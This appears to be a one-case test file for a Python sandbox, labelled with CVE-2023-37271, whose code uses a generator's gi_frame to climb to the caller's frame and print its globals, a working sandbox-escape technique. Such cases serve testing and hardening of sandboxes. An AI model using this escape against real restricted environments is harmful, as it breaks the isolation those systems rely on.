# class: language
# tier: restricted
# attack: frames by generators: gi_frame, gi_code, gi_yieldfrom, of literals (CVE-2023-37271)
# success: a frame is reached
frame = (each for each in [1]).gi_frame
print("escaped:", frame.f_back.f_globals)
